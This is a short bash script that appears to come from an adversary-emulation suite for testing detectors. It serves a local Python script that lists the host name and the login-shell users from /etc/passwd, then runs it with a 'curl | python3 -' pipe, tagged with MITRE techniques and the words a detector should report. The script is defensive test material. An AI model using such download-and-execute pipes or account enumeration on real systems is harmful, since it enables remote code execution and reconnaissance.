#!/bin/bash
# vigil-emulation: attack
# technique: T1059.006 Command and Scripting Interpreter: Python; T1105 Ingress Tool Transfer
# tactic: execution, command-and-control
# what: `curl -s http://127.0.0.1:PORT/p.py | python3 -`: Python code from a web server the
#   scenario runs is piped into the interpreter; it reads /etc/passwd and prints the
#   host name and the user accounts with a login shell.
# report: a download piped into the Python interpreter's stdin.
# expect: pipe|piped|download
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need curl

emul_tmpdir
cat >"$EMUL_DIR/p.py" <<'PY'
import socket
print(socket.gethostname())
for line in open("/etc/passwd"):
    if line.rstrip().endswith("sh"):
        print(line.split(":")[0])
PY
emul_server http --dir "$EMUL_DIR"
sh -c "curl -s http://127.0.0.1:$EMUL_PORT/p.py | $PY -"
